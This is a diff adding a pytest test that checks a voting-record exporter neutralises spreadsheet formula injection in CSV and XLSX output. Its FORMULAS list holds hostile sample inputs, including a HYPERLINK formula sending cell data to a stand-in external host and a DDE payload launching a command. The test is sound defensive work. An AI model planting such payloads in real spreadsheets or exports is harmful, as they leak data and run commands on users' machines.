@@ -2,7 +2,9 @@
 
 import csv
 import io
+import zipfile
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -115,6 +117,29 @@ def test_a_cell_is_never_a_formula(library: Library, tmp_path: Path) -> None:
     head, *lines = CalamineWorkbook.from_path(tmp_path / "votes.xlsx").get_sheet_by_index(0).to_python()
     assert tuple(head) == COLUMNS and len(lines) == len(rows)
     assert "=Norway" in {line[3] for line in lines}
+
+
+FORMULAS = (
+    '=HYPERLINK("http://elsewhere.example?"&A1,"here")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
+    "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b =1", "\0=1", "＝1", "＋1", "－1", "＠SUM(1)",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_field_of_any_export_is_a_formula(library: Library, tmp_path: Path, formula: str) -> None:
+    [row, *_] = library.register("decisions", Wanted(since="2032"))
+    document = replace(row.citation.document, symbol=formula, title=formula, date=formula, id=formula)
+    citation = replace(row.citation, document=document, quote=formula)
+    outcome = replace(row.outcome, due=formula) if row.outcome else None
+    hostile = replace(row, citation=citation, item=formula, what=formula, who=formula, outcome=outcome)
+    [cells] = csv.DictReader(io.StringIO(as_csv([hostile])))
+    written = [cell for name, cell in cells.items() if name not in ("for", "against", "abstained", "start", "end")]
+    assert len(written) == 9 and all(cell.startswith("'" + formula.replace("\r", "\n")) for cell in written if cell)
+    assert sum(map(bool, written)) >= 8
+    write_xlsx([hostile], tmp_path / "rows.xlsx")
+    with zipfile.ZipFile(tmp_path / "rows.xlsx") as book:
+        sheet = book.read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet and b"<f " not in sheet and b"<hyperlink" not in sheet
 
 
 def test_a_workbook_that_cannot_be_written_is_named(library: Library, tmp_path: Path) -> None:
